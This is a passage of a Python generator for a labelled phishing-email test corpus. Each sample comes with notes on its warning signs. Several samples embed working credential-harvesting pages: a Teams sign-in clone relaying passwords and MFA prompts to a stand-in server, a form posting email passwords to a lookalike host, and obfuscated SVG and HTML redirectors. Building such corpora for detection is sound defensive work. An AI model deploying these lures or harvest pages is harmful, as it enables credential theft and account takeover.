    html = html_page(
        '<div style="font-family:Arial,sans-serif;max-width:560px;margin:auto;border:1px solid #ddd">'
        '<div style="padding:18px;background:#0061fe;color:#fff;font-size:18px">Dropbox Sign</div>'
        '<div style="padding:24px"><p>Bernd Lohmann hat Sie gebeten, <b>Lieferantenvereinbarung_2025.pdf</b> zu '
        'unterzeichnen.</p><p>Nachricht: &bdquo;Hallo Frau Demir, anbei die neue Lieferantenvereinbarung zur '
        'Unterschrift. Danke und Gruß, B. Lohmann&ldquo;</p>'
        f'{button(url, "Dokument prüfen und unterzeichnen", "#0061fe")}</div></div>', "de")
    plain = ("Bernd Lohmann hat Sie gebeten, Lieferantenvereinbarung_2025.pdf zu unterzeichnen.\n\n"
             f"Dokument prüfen und unterzeichnen: {url}\n")
    ionos = Sender("esp", "212.227.126.135", "mout.kundenserver.de", "DE", dkim_d="lohmann-lagertechnik.de",
                   selector="s1-ionos", host="kundenserver.de",
                   via=[fold(f"Received: from [10.0.0.{num(name, 'lan', 20, 60)}] ([87.160.{num(name, 'c3', 1, 254)}."
                             f"{num(name, 'c4', 1, 254)}]) by mrelayeu.kundenserver.de (mreue012 [213.165.67.97]) with "
                             f"ESMTPSA (Nemesis) id 1N{alnum(name, 'nid', 20)}; {rfc(when('2025-07-09 12:25:36 +0200'))}")])
    emit(cat, name, "Dropbox Sign request in German from a compromised IONOS mailbox of a customer (auth passes): "
         "real Dropbox Sign mail comes from hellosign.com, this one is sent from the customer's own box and links "
         "to a .sbs lookalike",
         "2025-07-09 12:25:37 +0200", ionos, "Bernd Lohmann <b.lohmann@lohmann-lagertechnik.de>", [addr("demir")],
         "Dropbox Sign: Bitte unterzeichnen Sie Lieferantenvereinbarung_2025.pdf", alt(name, plain, html, "gen"),
         lang="de")

    # 25 -- PandaDoc lookalike through Amazon SES
    name = "b13-phish-pandadoc-purchase-agreement"
    url = f"https://app.pandadoc-view.com/document/v2?token={h(name, 'tok', 40)}"
    html = html_page(
        '<div style="font-family:Arial,sans-serif;max-width:560px;margin:auto">'
        '<p style="font-size:22px;color:#248567"><b>PandaDoc</b></p><p style="font-size:16px">Nordic Warehouse '
        'Solutions sent you a document to review and sign</p><p style="border:1px solid #ddd;padding:14px">'
        '&#128196; Purchase Agreement NWS-HK-2024</p>'
        f'{button(url, "Open the document", "#248567")}<p style="font-size:11px;color:#888">Powered by PandaDoc</p></div>')
    plain = ("Nordic Warehouse Solutions sent you a document to review and sign\n\nPurchase Agreement NWS-HK-2024\n\n"
             f"Open the document: {url}\n")
    emit(cat, name, "PandaDoc notification lookalike through Amazon SES from pandadoc-mail.com, linking to "
         "app.pandadoc-view.com instead of app.pandadoc.com, for a 'purchase agreement' from an unknown company",
         "2024-12-04 14:12:48 +0100",
         ses("54.240.4.21", "pandadoc-mail.com", "IE", "eu-west-1", dkim_d="pandadoc-mail.com", dmarc="bestguesspass",
             compauth="pass reason=109"),
         "PandaDoc <docs@pandadoc-mail.com>", [addr("vogt")],
         'Nordic Warehouse Solutions sent you "Purchase Agreement NWS-HK-2024"', alt(name, plain, html, "ses"))

    # 26 -- RingCentral voicemail with an .htm attachment
    name = "b13-phish-ringcentral-voicemail-htm"
    rcpt = P["kroll"][1]
    page = ('<html><head><meta charset="utf-8"><title>RingCentral Voice</title>\n<script>\n'
            'var u = "https://rc-voice.qxlm.top/play/";\n'
            f'var e = "{rcpt}";\n'
            'setTimeout(function () { window.location.replace(u + "#" + btoa(e)); }, 900);\n'
            '</script></head>\n<body style="font-family:Arial;text-align:center;padding-top:80px">'
            '<p>Loading voice message (00:42)&hellip;</p></body></html>\n').encode()
    html = html_page(
        '<div style="font-family:Arial,sans-serif;max-width:520px">'
        '<p style="color:#ff8800;font-size:20px"><b>RingCentral</b></p><p>You have a new voice message.</p>'
        '<table style="font-size:13px"><tr><td>From:</td><td>+49 5251 887 41</td></tr><tr><td>To:</td><td>Matthias '
        'Kroll</td></tr><tr><td>Duration:</td><td>00:42</td></tr><tr><td>Received:</td><td>Wed, 13 Dec 2023 '
        '17:58</td></tr></table><p>Open the attached file to listen to the message.</p>'
        '<p style="font-size:11px;color:#888">RingCentral, Inc. 20 Davis Drive, Belmont, CA 94002</p></div>')
    plain = ("You have a new voice message.\n\nFrom: +49 5251 887 41\nTo: Matthias Kroll\nDuration: 00:42\n\n"
             "Open the attached file to listen to the message.\n")
    body = mixed(name, [alt(name, plain, html, "php"),
                        attachment("text/html", "VM_Message_+49525188741_042s.htm", page)], "php")
    emit(cat, name, "RingCentral voicemail lookalike to the CEO (the company has no RingCentral) from "
         "ringcentral-voice.net; the 'voice message' is an .htm attachment whose script redirects to a .top "
         "player page with the CEO's address base64 in the fragment",
         "2023-12-13 16:58:02 +0000",
         vps_kit("146.70.117.204", "mail.ringcentral-voice.net", "GB", dkim_d="ringcentral-voice.net",
                 dmarc="bestguesspass", compauth="pass reason=109"),
         "RingCentral <notify@ringcentral-voice.net>", [addr("kroll")],
         "New Voice Message from +49 5251 887 41 - 0:42 sec", body)

    # 27 -- 8x8 voicemail with an .svg attachment
    name = "b13-phish-8x8-voicemail-svg"
    rcpt = P["halvorsen"][1]
    dest = f"https://vm8x8-listen.pqtz.cfd/a/?m={b64(rcpt)}"
    codes = ",".join(str(ord(c) + 3) for c in dest)
    script = (f"var k = [{codes}];\n"
              "var s = k.map(function (c) { return String.fromCharCode(c - 3); }).join('');\n"
              "window.location.assign(s);")
    svg = svg_wrap(script, "8x8 Voice Message")
    html = html_page(
        '<div style="font-family:Arial,sans-serif;max-width:520px"><p style="font-size:20px;color:#e60000">'
        '<b>8x8</b> Voice</p><p>You received a voicemail.</p><p>Caller: +44 20 3318 4410<br>Length: 1 min 07 sec'
        '<br>Mailbox: Sabine Halvorsen</p><p>Play the attached audio message.</p></div>')
    plain = ("You received a voicemail.\n\nCaller: +44 20 3318 4410\nLength: 1 min 07 sec\nMailbox: Sabine Halvorsen\n\n"
             "Play the attached audio message.\n")
    body = mixed(name, [alt(name, plain, html, "ses"),
                        attachment("image/svg+xml", "Audio_Message_0311.svg", svg)], "ses")
    emit(cat, name, "8x8 voicemail lookalike from 8x8-notify.com whose 'audio message' is an .svg image with a "
         "script that decodes a shifted charCode array into a .cfd URL and navigates to it with the recipient's "
         "address",
         "2025-03-11 10:02:55 +0000",
         ses("54.240.11.88", "8x8-notify.com", "US", dkim_d="8x8-notify.com", dmarc="bestguesspass",
             compauth="pass reason=109"),
         "8x8 Voice Notification <voicemail@8x8-notify.com>", [addr("halvorsen")],
         "Voicemail received from +44 20 3318 4410 (1 min 07 sec)", body)

    # 28 -- Teams voicemail with a Mamba 2FA HTML attachment
    name = "b13-phish-teams-voicemail-mamba2fa-html"
    rcpt = P["grant"][1]
    page = (
        '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Microsoft Teams - Voicemail</title>\n'
        '<script src="https://cdnjs.cloudflare.com/ajax/libs/socket.io/4.7.5/socket.io.min.js"></script>\n'
        '<style>body{font-family:Segoe UI,Arial;background:#f5f5f5}.c{width:400px;margin:90px auto;background:#fff;'
        'padding:30px}</style></head><body><div class="c" id="app"><img src="https://aadcdn.msftauth.net/shared/1.0/'
        'content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg" width="108"><h2>Sign in</h2>'
        f'<p>to listen to your voicemail</p><input id="u" value="{rcpt}" style="width:100%;padding:6px"><br><br>'
        '<input id="p" type="password" placeholder="Password" style="width:100%;padding:6px"><br><br>'
        '<button id="b" style="background:#0067b8;color:#fff;border:0;padding:8px 30px">Sign in</button>'
        '<div id="mfa"></div></div>\n<script>\n'
        f'var em = atob("{b64(rcpt)}");\n'
        'var socket = io("https://vm-relay-eu3.azurewebsites.net", {transports: ["websocket"]});\n'
        'socket.emit("hello", {email: em, kind: "teams-vm"});\n'
        'document.getElementById("b").onclick = function () {\n'
        '  socket.emit("creds", {u: document.getElementById("u").value, p: document.getElementById("p").value});\n'
        '};\n'
        'socket.on("mfa", function (d) { document.getElementById("mfa").innerHTML = d.html; });\n'
        'socket.on("done", function () { location.href = "https://teams.microsoft.com"; });\n'
        '</script></body></html>\n').encode()
    body_html = paras("You received a new voicemail in Microsoft Teams.\n\nFrom: +1 (614) 555-0183\nDuration: 00:42\n"
                      "Received: 15/07/2024 18:44\n\nOpen the attached recording to listen.")
    plain = ("You received a new voicemail in Microsoft Teams.\n\nFrom: +1 (614) 555-0183\nDuration: 00:42\n\n"
             "Open the attached recording to listen.\n")
    body = mixed(name, [outlook_alt(name, plain, body_html),
                        attachment("text/html", "Teams_Voicemail_00m42s.html", page)])
    emit(cat, name, "Teams voicemail lookalike from a compromised US dental office's Microsoft 365 mailbox; the "
         "recording is an .html Microsoft sign-in clone that relays the password and MFA prompt over Socket.IO "
         "to an azurewebsites.net server, the Mamba 2FA AiTM kit",
         "2024-07-15 13:44:21 -0400", m365_tenant_sender("40.107.236.93", "NAM04", "US"),
         "Voicemail Service <reception@harlow-dental.com>", [addr("grant")],
         "Teams Voicemail: +1 (614) 555-0183 left you a message (00:42)", body,
         extra=["X-Attach: yes"])

    # 29 -- Zoom Phone voicemail link (German)
    name = "b13-phish-zoom-phone-voicemail-link"
    rcpt = P["vogt"][1]
    url = f"https://zoom-voicemail.support/vm/play?id={h(name, 'id', 20)}&u={b64(rcpt)}"
    html = html_page(
        '<div style="font-family:Lato,Arial,sans-serif;max-width:520px"><p style="color:#0b5cff;font-size:22px">'
        '<b>zoom</b></p><p>Hallo Lena Vogt,</p><p>Sie haben eine neue Voicemail von <b>+49 521 9876 4410</b> '
        '(Dauer 0:58).</p>'
        f'{button(url, "Voicemail anhören", "#0b5cff")}<p style="font-size:12px;color:#777">Melden Sie sich mit '
        'Ihrem Firmenkonto an, um die Nachricht abzuspielen.<br>Zoom Video Communications, Inc.</p></div>', "de")
    plain = (f"Hallo Lena Vogt,\n\nSie haben eine neue Voicemail von +49 521 9876 4410 (Dauer 0:58).\n\n"
             f"Voicemail anhören: {url}\n")
    emit(cat, name, "German Zoom Phone voicemail lookalike from zoom-voicemail.support (Zoom mails from zoom.us) "
         "via Amazon SES, asking for a company sign-in to play the message",
         "2026-01-20 08:19:30 +0100",
         ses("54.240.8.45", "zoom-voicemail.support", "US", dkim_d="zoom-voicemail.support", dmarc="bestguesspass",
             compauth="pass reason=109"),
         "Zoom Phone <no-reply@zoom-voicemail.support>", [addr("vogt")],
         "Zoom Phone: Neue Voicemail von +49 521 9876 4410", alt(name, plain, html, "ses"), lang="de")

    # 30 -- eFax notification to a Google Cloud Storage page
    name = "b13-phish-efax-gcs-hosted"
    rcpt = P["ap"][1]
    url = f"https://storage.googleapis.com/efx-inbound-7731/fax.html#{b64(rcpt)}"
    html = html_page(
        '<div style="font-family:Arial,sans-serif;max-width:560px"><p style="font-size:20px;color:#c8102e">'
        '<b>eFax</b> Corporate</p><p>You have received a 3 page fax at 2024-04-23 07:31:14 CEST.</p>'
        '<p>* The reference number for this fax is atl_did1-1713850270-49521329877-212.</p>'
        f'<p><a href="{url}">Click here to view this fax using your web browser.</a></p>'
        '<p style="font-size:11px;color:#777">Thank you for using the eFax service!</p></div>')
    plain = ("You have received a 3 page fax at 2024-04-23 07:31:14 CEST.\n\n* The reference number for this fax is "
             f"atl_did1-1713850270-49521329877-212.\n\nView this fax: {url}\n")
    emit(cat, name, "eFax notification lookalike from efax-messaging.net (eFax is efax.com; the company has no "
         "eFax account) whose fax is an HTML page on storage.googleapis.com carrying the AP mailbox's address",
         "2024-04-23 07:31:16 +0200",
         vps_kit("5.181.156.44", "mail.efax-messaging.net", "LT", dkim_d=None, dkim="none", dmarc="none",
                 compauth="fail reason=001"),
         "eFax Corporate <message@efax-messaging.net>", [addr("ap")],
         'eFax message from "+49 521 3298 770" - 3 page(s)', alt(name, plain, html, "php"), scl=5, cat="SPM")

    # 31 -- Calendar invitation with the link in the description
    name = "b13-phish-ics-invite-agenda-link"
    rcpt = P["brandt"][1]
    link = f"https://agenda-share.ucpz.xyz/nsr/halkroll?e={b64(rcpt)}"
    description = ("Dear Tobias,\n\nAhead of our quarterly supplier review please open the agenda and the updated "
                   f"price sheet (sign in with your Microsoft account):\n{link}\n\nBest regards\nMikkel Jensen\n"
                   "Nordic Shelving A/S")
    invite = ics(name, organizer=("Mikkel Jensen", "mj@nordic-shelving.dk"), attendees=[("Tobias Brandt", rcpt)],
                 summary="Quarterly supplier review – Nordic Shelving / Halvorsen & Kroll",
                 start="20250821T100000", end="20250821T110000", location="Agenda link in description",
                 description=description, stamp="20250819T070541Z", tzid="Romance Standard Time")
    plain = description + "\n"
    html_body = paras("Dear Tobias,\n\nAhead of our quarterly supplier review please open the agenda and the updated "
                      "price sheet (sign in with your Microsoft account):") + (
        f'<p class="MsoNormal"><a href="{link}">Agenda &amp; price sheet Q3</a><o:p></o:p></p>') + paras(
        "\nBest regards\nMikkel Jensen\nNordic Shelving A/S")
    body = mixed(name, [
        Multi("alternative", boundary(name, "outlook", "alt"), [
            text(plain), text(outlook_html(html_body), "html"),
            Leaf("text/calendar", invite, "base64", '; charset="utf-8"; method=REQUEST')]),
        Leaf("application/ics", invite, "base64", '; name="invite.ics"', 'attachment; filename="invite.ics"')])
    emit(cat, name, "Meeting request from a compromised Danish supplier mailbox (auth passes) whose .ics "
         "description and body carry an 'agenda' link to a .xyz host that asks for a Microsoft sign-in; no Teams "
         "link, location says to use the description",
         "2025-08-19 09:05:41 +0200", m365_tenant_sender("52.101.66.41", "EUR02", "DK"),
         "Mikkel Jensen <mj@nordic-shelving.dk>", [addr("brandt")],
         "Quarterly supplier review – Nordic Shelving / Halvorsen & Kroll", body)

    # 32 -- Quishing: QR code in a PDF
    name = "b13-phish-qr-pdf-mfa-reenrollment"
    rcpt = P["nowak"][1]
    qr_url = f"https://mfa-halkroll.qrzo.top/auth?e={b64(rcpt)}"
    pdf_bytes = qr_pdf(["Microsoft 365 - Multi-Factor Authentication", "",
                        f"Account: {rcpt}", "Status: Re-enrollment required (deadline 48 hours)", "",
                        "Your MFA settings have expired. Scan the QR code below with your phone camera",
                        "to re-register the Microsoft Authenticator app and keep access to Outlook and Teams."],
                       qr_url, ["Accounts not re-enrolled within 48 hours will be locked.",
                                "Microsoft Security Team"], "MFA Re-enrollment", "Microsoft")
    plain = (f"Dear {P['nowak'][0]},\n\nYour multi-factor authentication must be re-enrolled within 48 hours. See the "
             "attached notice and follow the instructions.\n\nMicrosoft Security\n")
    body = mixed(name, [text(plain),
                        attachment("application/pdf", "MFA_Reenrollment_Notice_halkroll.pdf", pdf_bytes)], "php")
    emit(cat, name, "Quishing: 'MFA re-enrollment within 48 hours' with no link in the mail, only a PDF whose "
         "QR code encodes a .top URL with the recipient's address in base64, to move the victim to a phone; sent "
         "from msft-mfa-center.com via PHPMailer",
         "2023-10-18 07:12:00 +0200",
         vps_kit("194.169.175.36", "mail.msft-mfa-center.com", "GB", dkim_d="msft-mfa-center.com",
                 dmarc="bestguesspass", compauth="pass reason=109"),
         "Microsoft Security <security-noreply@msft-mfa-center.com>", [addr("nowak")],
         "Action Required: Re-enroll Multi-Factor Authentication within 48 hours", body)

    # 33 -- Quishing: QR code in a DOCX (German HR)
    name = "b13-phish-qr-docx-mitarbeiterhandbuch"
    rcpt = P["wessel"][1]
    qr_url = f"https://personal-halkroll.dokumente-portal.cfd/handbuch?u={b64(rcpt)}"
    document = docx_with_image(
        ["Halvorsen & Kroll Fördertechnik GmbH – Personalabteilung", "",
         "Aktualisierung Mitarbeiterhandbuch 2024", "",
         f"Mitarbeiter: {P['wessel'][0]} ({rcpt})",
         "Bitte scannen Sie den folgenden QR-Code mit Ihrem Smartphone und bestätigen Sie die Kenntnisnahme "
         "mit Ihrer Microsoft-365-Anmeldung bis Freitag, 09.02.2024."],
        files.qr_png(qr_url),
        ["Ohne Bestätigung kann die Teilnahme an der Erfolgsbeteiligung 2024 nicht berücksichtigt werden.",
         "Personalabteilung"], "Mitarbeiterhandbuch 2024", "Personalabteilung")
    plain = ("Hallo Herr Wessel,\n\nanbei das Dokument zur Aktualisierung des Mitarbeiterhandbuchs 2024. Bitte folgen "
             "Sie den Anweisungen im Dokument bis Freitag.\n\nMit freundlichen Grüßen\nPersonalabteilung\n")
    body = mixed(name, [text(plain), attachment(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "Mitarbeiterhandbuch_2024_Bestaetigung.docx", document)], "php")
    emit(cat, name, "German HR quishing from halkroll-personalwesen.de (a lookalike of the company's domain): the "
         "DOCX holds a QR code to a .cfd 'Dokumente-Portal' with the employee's address and asks for a Microsoft "
         "365 sign-in by Friday",
         "2024-02-06 08:30:15 +0100",
         vps_kit("185.244.29.114", "mail.halkroll-personalwesen.de", "DE", dkim_d="halkroll-personalwesen.de",
                 dmarc="bestguesspass", compauth="pass reason=109"),
         "Personalabteilung <hr-service@halkroll-personalwesen.de>", [addr("wessel")],
         "Aktualisierung Mitarbeiterhandbuch 2024 – Bestätigung bis Freitag", body, lang="de")

    # 34 -- Quishing: inline PNG QR code
    name = "b13-phish-qr-inline-png-authenticator"
    rcpt = P["hartley"][1]
    qr_url = f"https://aka-ms-authenticator.qzvx.lat/setup?tenant=halkroll&u={b64(rcpt)}"
    html = html_page(
        '<div style="font-family:Segoe UI,Arial,sans-serif;max-width:520px"><p style="font-size:20px">Microsoft '
        'Authenticator</p><p>Hi Ben,</p><p>Your Microsoft Authenticator registration for <b>'
        f'{rcpt}</b> expires today. To avoid losing access to Outlook, Teams and SharePoint, scan the QR code '
        'below with your phone camera and complete the setup.</p><p><img src="cid:qr-auth-0903" width="180" '
        'height="180" alt="QR code"></p><p style="font-size:12px;color:#666">Microsoft Corporation, One Microsoft '
        'Way, Redmond, WA 98052</p></div>')
    plain = (f"Hi Ben,\n\nYour Microsoft Authenticator registration for {rcpt} expires today. Scan the QR code in this "
             "email with your phone camera to complete the setup.\n")
    body = Multi("related", boundary(name, "ses", "rel"), [
        alt(name, plain, html, "ses"),
        attachment("image/png", "qr.png", files.qr_png(qr_url), inline=True, cid="qr-auth-0903")],
        '\n\ttype="multipart/alternative";')
    emit(cat, name, "Quishing with an inline PNG QR code: 'Authenticator registration expires today' from "
         "authenticator-setup.com through Amazon SES; the QR encodes a .lat URL with the tenant name and the "
         "engineer's address",
         "2024-09-03 06:05:40 +0100",
         ses("54.240.9.112", "authenticator-setup.com", "US", dkim_d="authenticator-setup.com", dmarc="bestguesspass",
             compauth="pass reason=109"),
         "Microsoft Authenticator <no-reply@authenticator-setup.com>", [addr("hartley")],
         "Your Microsoft Authenticator registration expires today", body)

    # 35 -- Quishing: QR code drawn as an HTML table of black cells
    name = "b13-phish-qr-html-table-docusign"
    rcpt = P["korte"][1]
    qr_url = f"https://dsign-review.hkbz.cfd/s/?e={b64(rcpt)}"
    matrix = qr_matrix(qr_url)
    rows = []
    quiet = '<td bgcolor="#ffffff" width="4" height="4"></td>'
    width = len(matrix) + 4
    for _ in range(2):
        rows.append("<tr>" + quiet * width + "</tr>")
    for row in matrix:
        cells = quiet * 2 + "".join(
            f'<td bgcolor="{"#000000" if v else "#ffffff"}" width="4" height="4"></td>' for v in row) + quiet * 2
        rows.append(f"<tr>{cells}</tr>")
    for _ in range(2):
        rows.append("<tr>" + quiet * width + "</tr>")
    table = ('<table cellpadding="0" cellspacing="0" border="0" style="border-collapse:collapse">'
             + "\n".join(rows) + "</table>")
    html = html_page(
        '<div style="font-family:Helvetica,Arial,sans-serif;max-width:560px;background:#f4f4f4;padding:20px">'
        '<div style="background:#1e4ca1;color:#fff;padding:20px;text-align:center"><b>DocuSign</b><br>'
        'Julia Korte, please review and sign: Salary_Increase_Letter_2025.pdf</div><div style="background:#fff;'
        'padding:20px;text-align:center"><p>Scan the code with your mobile device to review the document '
        'securely.</p>' + table + '<p style="font-size:11px;color:#777">This document will expire in 24 hours.</p>'
        '</div></div>')
    plain = "Julia Korte, please review and sign: Salary_Increase_Letter_2025.pdf\n\nScan the code in this email with your mobile device.\n"
    emit(cat, name, "Quishing where the QR code is an HTML table of black and white cells (no image for scanners "
         "to decode) in a DocuSign-styled 'salary increase letter' from a compromised US landscaping company's "
         "Google Workspace mailbox; the code decodes to a .cfd URL",
         "2025-10-07 08:48:33 -0700",
         gmail_sender("209.85.214.170", "mail-pl1-f170.google.com", "US", dkim_d="tierra-verde-landscaping.com"),
         "DocuSign <j.morales@tierra-verde-landscaping.com>", [addr("korte")],
         "Please DocuSign: Salary_Increase_Letter_2025.pdf", alt(name, plain, html, "gmail"))

    # 36 -- RFQ with a password-protected ZIP of an HTML file
    name = "b13-phish-rfq-password-zip-html"
    rcpt = P["vogt"][1]
    page = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>RFQ-2291 Specification</title></head>'
            '<body style="font-family:Segoe UI,Arial;background:#eef1f5"><div style="width:380px;margin:80px auto;'
            'background:#fff;padding:28px"><h3>RFQ-2291 &ndash; Specification Sheet.pdf</h3><p>Document preview is '
            'restricted. Confirm your business email to download.</p><form method="POST" '
            'action="https://rfq-docs.almarwan-trading.com.tr-view.top/rfq/auth.php">'
            f'<input name="email" value="{rcpt}" style="width:100%;padding:7px"><br><br><input name="pass" '
            'type="password" placeholder="Email password" style="width:100%;padding:7px"><br><br><button '
            'style="background:#c00;color:#fff;border:0;padding:8px 26px">Download</button></form></div>'
            '</body></html>\n').encode()
    archive = zipcrypto([("RFQ-2291_Specification_Sheet.html", page)], "2291", name)
    plain = ("Dear Sir/Madam,\n\nWe are pleased to invite your company to quote for the supply of a belt conveyor "
             "system for our new warehouse in Jebel Ali. Kindly find attached our RFQ documents with drawings and "
             "technical specification.\n\nZIP password: 2291\n\nPlease send your best price and delivery time latest "
             "by 28 October.\n\nBest regards,\nAhmed Saleh\nProcurement Manager\nAl Marwan General Trading LLC\n"
             "Dubai, UAE\n")
    html = html_page(plain.replace("&", "&amp;").replace("\n", "<br>\n"))
    body = mixed(name, [alt(name, plain, html, "php"),
                        attachment("application/zip", "RFQ-2291_Documents.zip", archive)], "php")
    emit(cat, name, "Unsolicited RFQ from an unknown Dubai 'trading' company with a password-protected ZIP "
         "(password in the body, to blind scanners) holding only an HTML file: a download page that asks for the "
         "email password and posts it to a .top host",
         "2024-10-22 10:14:07 +0400",
         vps_kit("45.88.91.17", "mail.almarwan-trading.com", "AE", dkim_d="almarwan-trading.com",
                 dmarc="bestguesspass", compauth="pass reason=109"),
         "Procurement Manager <purchasing@almarwan-trading.com>", [addr("vogt")],
         "RFQ-2291 // Request for Quotation – Belt conveyor system (urgent)", body, cc=[addr("grant")])

    # 37 -- Invoice PDF whose only content action is a link
    name = "b13-phish-invoice-pdf-link-only"
    rcpt = P["ap"][1]
    link = f"https://docview.inv-portal.icu/INV-20931?r={b64(rcpt)}"
    pdf_bytes = pdf_doc(["Brixton Fluid Power Ltd", "INVOICE INV-20931", "",
                         "This invoice is protected. To view the invoice and remittance details,",
                         "click REVIEW DOCUMENT below and sign in with your business email.", "",
                         "Amount due: GBP 18,460.00   Status: OVERDUE"], "INV-20931", link)
    body_html = paras("Hello,\n\nOur records show invoice INV-20931 as overdue. Please see the attached invoice "
                      "and arrange payment today to avoid your account being placed on hold.\n\nRegards")
    body_html += signature_block(["Accounts Receivable", "Brixton Fluid Power Ltd"])
    plain = ("Hello,\n\nOur records show invoice INV-20931 as overdue. Please see the attached invoice and arrange "
             "payment today to avoid your account being placed on hold.\n\nRegards\nAccounts Receivable\n"
             "Brixton Fluid Power Ltd\n")
    body = mixed(name, [outlook_alt(name, plain, body_html),
                        attachment("application/pdf", "INV-20931.pdf", pdf_bytes)])
    emit(cat, name, "Overdue-invoice pressure from a compromised UK hydraulics firm's mailbox (auth passes, no "
         "business relation) with a one-page PDF that holds no invoice lines, only a REVIEW DOCUMENT link "
         "annotation to an .icu host carrying the AP address",
         "2025-05-06 11:30:03 +0100", m365_tenant_sender("52.101.195.30", "GBR01", "GB"),
         "Accounts Receivable <ar@brixton-fluidpower.co.uk>", [addr("ap")],
         "Overdue invoice INV-20931 – remittance required", body, extra=["X-Attach: yes"])

    # 38 -- Betriebliche Altersvorsorge (pension) notice
    name = "b13-phish-bav-renteninformation"
    rcpt = P["rohde"][1]
    url = f"https://bav-versorgungsportal.com/login?mandant=halkroll&u={b64(rcpt)}"
    html = html_page(
        '<div style="font-family:Arial,sans-serif;font-size:14px;max-width:580px">'
        '<p style="color:#00457c;font-size:18px"><b>Versorgungswerk &ndash; bAV-Service</b></p>'
        "<p>Sehr geehrte Frau Rohde,</p><p>Ihre jährliche Renteninformation 2025 zu Ihrer betrieblichen "
        "Altersvorsorge über die Halvorsen &amp; Kroll Fördertechnik GmbH steht im Versorgungsportal bereit. "
        "Aufgrund einer Umstellung der Tarife ist eine einmalige Bestätigung Ihrer Daten bis zum 21.11.2025 "
        "erforderlich, andernfalls wird die Entgeltumwandlung ausgesetzt.</p>"
        f"{button(url, 'Zum Versorgungsportal', '#00457c')}"
        "<p>Mit freundlichen Grüßen<br>Ihr bAV-Service</p></div>", "de")
    plain = ("Sehr geehrte Frau Rohde,\n\nIhre jährliche Renteninformation 2025 zur betrieblichen Altersvorsorge steht "
             "im Versorgungsportal bereit. Eine einmalige Bestätigung Ihrer Daten ist bis zum 21.11.2025 "
             f"erforderlich:\n{url}\n\nMit freundlichen Grüßen\nIhr bAV-Service\n")
    emit(cat, name, "German company-pension (bAV) notice from an invented 'Versorgungswerk' on "
         "bav-versorgungswerk-portal.de via SendGrid, threatening to stop salary conversion unless the employee "
         "confirms on a portal on yet another new domain",
         "2025-11-12 09:40:21 +0100",
         sendgrid("149.72.31.5", dkim_d="bav-versorgungswerk-portal.de", dmarc="bestguesspass",
                  compauth="pass reason=109"),
         "bAV-Service Versorgungswerk <service@bav-versorgungswerk-portal.de>", [addr("rohde")],
         "Ihre Renteninformation 2025 zur betrieblichen Altersvorsorge liegt bereit",
         alt(name, plain, html, "sendgrid"), lang="de")

    # 39 -- Microsoft 365 quarantine digest lookalike (English)
    name = "b13-phish-m365-quarantine-digest-lookalike-en"
    rcpt = P["vogt"][1]
    base = f"https://pub-{h(name, 'r2', 32)}.r2.dev/quarantine.html#{b64(rcpt)}"
    held = [("Remittance Advice 0524", "payments@unitedfreight-ltd.com"),
            ("RE: Order 24-1188 delivery schedule", "k.vahle@nordmark-distribution.de"),
            ("Invoice INV-44710 attached", "billing@proconveyor-parts.com"),
            ("Shared document: Site layout rev C", "no-reply@sharepointonline.com")]
    rows = "".join(
        f'<tr><td style="padding:6px;border-bottom:1px solid #eee">{escape(s)}</td><td style="padding:6px;'
        f'border-bottom:1px solid #eee">{escape(f)}</td><td style="padding:6px;border-bottom:1px solid #eee">'
        f'<a href="{base}&m={i}">Release</a> | <a href="{base}&m={i}&a=del">Delete</a></td></tr>'
        for i, (s, f) in enumerate(held))
    html = html_page(
        '<div style="font-family:Segoe UI,Arial,sans-serif;max-width:640px"><p style="font-size:20px">Microsoft 365 '
        f'security</p><p>You have 4 new messages held in quarantine for <b>{rcpt}</b>. These messages will be '
        'deleted after 3 days.</p><table style="font-size:13px;border-collapse:collapse"><tr><th align="left">'
        'Subject</th><th align="left">Sender</th><th></th></tr>' + rows + '</table>'
        f'<p><a href="{base}">Release all messages</a></p></div>')
    plain = (f"You have 4 new messages held in quarantine for {rcpt}.\n\n"
             + "".join(f"- {s} ({f})\n" for s, f in held) + f"\nRelease all messages: {base}\n")
    emit(cat, name, "Microsoft 365 quarantine-digest lookalike from messaging-microsoft365.com (the real digest "
         "comes from quarantine@messaging.microsoft.com and links to security.microsoft.com): every Release link "
         "goes to a Cloudflare r2.dev page with the recipient's address",
         "2024-05-28 06:02:44 +0000",
         vps_kit("193.143.1.66", "mail.messaging-microsoft365.com", "NL", dkim_d="messaging-microsoft365.com",
                 dmarc="bestguesspass", compauth="pass reason=109"),
         "Microsoft 365 <quarantine@messaging-microsoft365.com>", [addr("vogt")],
         "You have 4 new messages held in quarantine", alt(name, plain, html, "php"))

    # 40 -- quarantine digest lookalike (German) on an IPFS gateway
    name = "b13-phish-m365-quarantine-digest-lookalike-de"
    rcpt = P["wiechers"][1]
    cid = "bafybei" + "".join("abcdefghijklmnopqrstuvwxyz234567"[int(c, 16) * 2 % 32] for c in h(name, "cid", 52))
    base = f"https://ipfs.io/ipfs/{cid}?filename=outlook.html#{rcpt}"
    held = [("Zahlungsavis 06/2023", "zahlungsverkehr@sparkasse-de.info"),
            ("AW: Rechnung 2023-0612", "buchhaltung@rheda-antriebe.de"),
            ("Lieferschein 77120", "versand@lippe-verpackung.de")]
    rows = "".join(f"<tr><td>{escape(s)}</td><td>{escape(f)}</td><td><a href=\"{base}\">Freigeben</a></td></tr>"
                   for s, f in held)
    html = html_page(
        '<div style="font-family:Segoe UI,Arial,sans-serif;max-width:620px"><p style="font-size:18px"><b>'
        'Spam-Benachrichtigung</b></p><p>Für das Postfach <b>' + rcpt + '</b> wurden 3 Nachrichten zurückgehalten. '
        'Bitte prüfen Sie die Nachrichten innerhalb von 24 Stunden, sonst werden sie endgültig gelöscht.</p>'
        '<table cellpadding="6" style="font-size:13px">' + rows + '</table>'
        f'<p><a href="{base}">Alle Nachrichten im Posteingang zustellen</a></p><p style="font-size:11px;color:#777">'
        'Microsoft Outlook &ndash; Nachrichtenschutz</p></div>', "de")
    plain = (f"Für das Postfach {rcpt} wurden 3 Nachrichten zurückgehalten.\n\n"
             + "".join(f"- {s} ({f})\n" for s, f in held) + f"\nAlle Nachrichten zustellen: {base}\n")
    emit(cat, name, "German quarantine ('Spam-Benachrichtigung') lookalike from mailsecure-halkroll.de, a domain "
         "built on the company's name, with all release links pointing to an ipfs.io gateway page carrying the "
         "recipient's address",
         "2023-06-27 07:15:09 +0200",
